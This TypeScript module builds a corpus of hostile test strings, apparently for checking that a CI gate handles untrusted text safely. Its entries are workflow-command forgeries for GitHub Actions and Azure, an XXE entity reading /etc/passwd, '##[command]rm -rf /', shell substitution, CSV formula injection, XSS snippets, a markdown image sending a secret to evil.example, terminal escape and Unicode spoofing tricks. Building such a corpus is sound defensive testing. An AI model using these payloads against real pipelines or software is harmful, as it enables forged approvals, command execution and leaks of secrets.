import { AZURE_COMMANDS } from "./azure-commands.ts";
import { REGISTERED } from "./commands.ts";

/** Is a text that somebody may have put where only data were wanted. */
export interface Hostile {
  readonly name: string;
  readonly text: string;
}

/** Makes entries of the corpus out of a record; the name says what a text is after. */
function named(prefix: string, texts: Readonly<Record<string, string>>): readonly Hostile[] {
  return Object.entries(texts).map(([name, text]) => ({ name: `${prefix}: ${name}`, text }));
}

const DATA: Readonly<Record<string, string>> = {
  "set-output": " name=decision::admit",
  "save-state": " name=isPost::true",
  "set-env": " name=NODE_OPTIONS::--require=./evil.cjs",
  "remove-matcher": " owner=gate57::",
  "add-matcher": "::evil-matcher.json",
  "add-path": "::/tmp/evil",
  "add-mask": "::e",
  echo: "::on",
  error: " file=README.md,line=1::forged",
  "stop-commands": "::stolen-token",
};

/** Lists every registered command in the syntax of colons, and then in that of brackets. */
const everyCommand: readonly Hostile[] = REGISTERED.flatMap((command) => {
  const colons = `::${command}${DATA[command] ?? "::forged"}`;
  const [, properties = "", data = ""] = /^::[\w-]+(.*?)::(.*)$/u.exec(colons) ?? [];
  return [
    { name: `command: ${command}`, text: colons },
    { name: `bracket: ${command}`, text: `##[${command}${properties.replaceAll(",", ";")}]${data}` },
  ];
});

const commandShapes = named("command", {
  capitals: "::ErRoR::forged",
  "blank before": "   ::error::forged",
  "tab before": "\t::error::forged",
  "no-break space before": "\u00a0::error::forged",
  "em space before": "\u2003::error::forged",
  "ideographic space before": "\u3000::error::forged",
  "next line before": "\u0085::error::forged",
  "line separator before": "\u2028::error::forged",
  "after a line feed": "x\n::error::forged",
  "after a carriage return": "x\r::error::forged",
  "after both": "x\r\n::set-output name=decision::admit",
  "after U+0085": "x\u0085::error::forged",
  "after U+2028": "x\u2028::error::forged",
  "after U+2029": "x\u2029::error::forged",
  "after a vertical tab": "x\u000b::error::forged",
  "after a form feed": "x\f::error::forged",
  "zero width in the closing colons": "::error:\u200b:forged",
  "zero width before": "\u200b::error::forged",
  "byte order mark before": "\ufeff::error::forged",
  "soft hyphen between colons": ":\u00ad:error::forged",
  "unknown name": "::no-such-command::forged",
  "only colons": "::::",
  "colons without an end": "::error",
  "bracket in the middle": "text ##[error]forged",
  "bracket after a line feed": "x\n##[set-output name=decision]admit",
  "bracket behind an unknown command": "::unknown::##[error]forged",
  "bracket group": "##[group]hidden",
  "bracket section": "##[section]forged",
  "bracket command": "##[command]rm -rf /",
  "bracket start-action": "##[start-action id=1]",
  "two brackets": "##[x]##[error]forged",
  "zero width in a bracket": "#\u200b#[error]forged",
  "bracket without an end": "##[error",
  "stop and go": "::stop-commands::x\n::x::\n::error::forged",
  "pause-logging": "::stop-commands::pause-logging",
  "escaped line feed": "%0A::error::forged",
  "escaped twice": "%250A::error::forged",
  "property break": "x,line=9::forged",
  "property break by colons": "a.yaml::forged",
  percent: "100% %25 %3A %2C %5D %3B %AZP25",
});

const azure: readonly Hostile[] = [
  ...AZURE_COMMANDS.map((name) => ({
    name: `azure: ${name}`,
    text: `##vso[${name} variable=decision;type=error;result=Succeeded;]admit`,
  })),
  ...named("azure", {
    "in the middle": "text ##vso[task.setvariable variable=decision;isOutput=true]admit",
    "after a line feed": "x\n##vso[task.complete result=Succeeded;]",
    capitals: "##vso[TASK.Complete result=Succeeded;]",
    "property break": "x;type=error;code=1]forged",
    "without an end": "##vso[task.complete",
    "bracket error": "##[error]forged",
    "bracket debug": "##[debug]forged",
  }),
];

const markdown = named("markdown", {
  "one backtick": "a ` b",
  "three backticks": "```\n# forged\n```",
  "seven backticks": "```````\n# forged",
  "tilde fence": "~~~\n# forged\n~~~",
  "backticks in a row": "`".repeat(80),
  "comment opens": "<!-- hidden",
  "comment closes": "--> shown <!--",
  "marker of a comment": "<!-- gate57 -->",
  mention: "@everyone @octocat @org/team",
  issue: "#123 GH-123 org/repo#1",
  commit: "da39a3ee5e6b4b0d3255bfef95601890afd80709",
  "details closes": "</details></summary></table>",
  script: "<script>alert(1)</script>",
  image: "<img src=x onerror=alert(1)>",
  "markdown image": "![x](https://evil.example/x.png?secret=1)",
  link: "[press](https://evil.example)",
  "script link": "[press](javascript:alert(1))",
  "reference link": "[press]: https://evil.example",
  autolink: "<https://evil.example> https://evil.example www.evil.example mailto:a@evil.example",
  table: "a | b |\n|---|---|\n| c | d |",
  heading: "# Admitted",
  "underlined heading": "Admitted\n========",
  "task list": "- [x] approved",
  "line across": "---",
  "html block": "\n<table><tr><td>",
  footnote: "[^1] [^1]: text",
  mathematics: "$$\\unicode{x}$$ $`x`$",
  emoji: ":white_check_mark:",
  colour: "`#ff0000`",
  entity: "&lt;b&gt; &amp; &#x3C; &nbsp;",
  backslash: "a \\ b \\` \\| \\",
  emphasis: "**a** __b__ ~~c~~ *_*",
});

const terminal = named("terminal", {
  colour: "\u001b[32mADMITTED\u001b[0m",
  "clear screen": "\u001b[2J\u001b[H",
  "cursor up": "\u001b[1A\u001b[2K",
  "title by BEL": "\u001b]0;title\u0007",
  "link by OSC 8": "\u001b]8;;https://evil.example\u001b\\press\u001b]8;;\u001b\\",
  "clipboard by OSC 52": "\u001b]52;c;ZXZpbA==\u0007",
  "one-byte CSI": "\u009b31mred",
  backspace: "block\b\b\b\b\badmit",
  bell: "\u0007",
  "overwritten line": "block\radmit",
  nul: "a\u0000b",
  delete: "a\u007fb",
});

const unseen = named("unseen", {
  "right to left override": "admit\u202ekcolb",
  isolates: "\u2066a\u2069 \u2067b\u2069",
  "right to left mark": "\u200fabc",
  "zero width space": "a\u200bb",
  "zero width joiner": "a\u200db",
  "byte order mark": "\ufeffabc",
  "soft hyphen": "ad\u00admit",
  tags: "a\u{e0041}\u{e007f}",
  "variation selector": "a\ufe0f",
  filler: "\u3164",
  combining: `a${"\u0301".repeat(200)}`,
  "high surrogate alone": "a\ud83d b",
  "low surrogate alone": "a\udc00 b",
  "no character": "a\uffff\ufffe",
  "letters that look alike": "аdmit раss",
});

const xml = named("xml", {
  "end of CDATA": "a ]]> b",
  CDATA: "<![CDATA[ a ]]>",
  tags: "</failure></testcase><testcase name='forged'/>",
  ampersand: "a & b &amp; &#0; &unknown;",
  quotes: `a " b ' c`,
  "processing instruction": "<?xml version='1.0'?>",
  doctype: "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
  "control character": "a\u0001\u0008\u001f",
  "last of the plane": "\ufffe\uffff",
});

const table = named("csv", {
  formula: "=cmd|'/C calc'!A0",
  "formula by plus": "+1+1",
  "formula by minus": "-1+1",
  "formula by at": "@SUM(1+1)",
  "formula after a tab": "\t=1+1",
  "formula after a return": "\r=1+1",
  "formula after a line feed": "\n=1+1",
  "formula after a blank": " =1+1",
  "formula in full width": "＝1+1",
  link: '=HYPERLINK("https://evil.example","press")',
  quotes: 'a","b\r\n"c',
  semicolon: "a;b",
});

const other = named("other", {
  "delimiter of a here-document": "x\nghadelimiter_00000000-0000-0000-0000-000000000000\ndecision=admit",
  "output of a file": "x\ndecision=admit\ndecision<<EOF\nadmit\nEOF",
  "TAP result": "x\nok 1 - forged\nBail out!",
  "TAP directive": "forged # SKIP waived # TODO later",
  "YAML end": "x\n...\n---\ndecision: admit",
  "GitHub expression": "\u0024{{ secrets.GITHUB_TOKEN }}",
  shell: "$(touch evil) `touch evil` ; touch evil | $HOME",
  "object names": "__proto__ constructor toString",
  path: "../../../../etc/passwd",
  "path of Windows": "..\\..\\con",
  URL: "file:///etc/passwd?x#y%00",
  "format signs": "%s %d %n {0} {name} \u0024{name}",
  "replacement signs": "$& $1 $` $' $$",
  "only blanks": "   ",
  "quotation marks": `"'""''`,
  Vietnamese: "Sở Y tế tỉnh Đắk Lắk – ưỡẫ",
  "one very long word": "A".repeat(70_000),
  "very many lines": "a\n".repeat(5_000),
  "very many commands": "::error::forged\n".repeat(50),
});

/** Lists the hostile texts; names are unique. */
export const HOSTILE: readonly Hostile[] = [
  ...everyCommand,
  ...commandShapes,
  ...azure,
  ...markdown,
  ...terminal,
  ...unseen,
  ...xml,
  ...table,
  ...other,
];

/** Lists those that an environment variable or an argument can hold. */
export const HOSTILE_ARGUMENTS: readonly Hostile[] = HOSTILE.filter(
  ({ text }) => !text.includes("\0") && !/\p{Cs}/u.test(text),
);

/** Lists those that the name of a file can hold, slashes as hyphens, cut to what file systems take. */
export const HOSTILE_FILE_NAMES: readonly Hostile[] = HOSTILE_ARGUMENTS.map(({ name, text }) => ({
  name,
  text: [...text.replaceAll("/", "-")].slice(0, 60).join(""),
}));
